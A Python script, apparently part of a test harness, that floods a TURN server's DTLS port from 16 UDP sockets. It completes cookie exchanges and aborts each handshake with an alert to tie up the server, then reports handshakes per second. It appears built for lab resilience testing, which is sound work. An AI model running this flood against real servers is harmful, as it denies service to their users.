"""One address takes every DTLS handshake that there is: each is begun with a good cookie and ended at
once by an alert, so that it holds no place."""
import select
import socket
import time

import attack
import turn
from dtls_hello import (
    ALERT, HELLO_VERIFY_REQUEST, SERVER_HELLO, client_hello, cookie_of, handshake_type,
)  # fmt: skip

CLIENTS = 16
# Seconds after which a client that hears nothing asks again.
AGAIN = 0.02


class Hog:
    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((turn.ATTACKER, 0))
        self.socket.connect((turn.SERVER, turn.TLS_PORT))
        self.socket.setblocking(False)
        self.cookie = b""
        self.asked = 0.0

    def ask(self):
        self.asked = time.monotonic()
        self.socket.send(client_hello(self.cookie))


def main():
    hogs = {hog.socket: hog for hog in (Hog() for _ in range(CLIENTS))}
    begun = asked = 0
    attack.begun()
    while attack.goes_on():
        for hog in hogs.values():
            if time.monotonic() - hog.asked > AGAIN:
                asked += 1
                hog.ask()
        for ready in select.select(list(hogs), [], [], 0.005)[0]:
            hog = hogs[ready]
            try:
                while True:
                    came = handshake_type(data := ready.recv(4096))
                    if came == HELLO_VERIFY_REQUEST:
                        hog.cookie = cookie_of(data)
                        hog.asked = 0.0
                    elif came == SERVER_HELLO:
                        begun += 1
                        ready.send(ALERT)
                        hog.asked = 0.0
            except OSError:
                pass
    attack.report(
        begun=begun, handshakes_per_second=round(begun / attack.elapsed()), asked=asked
    )


main()
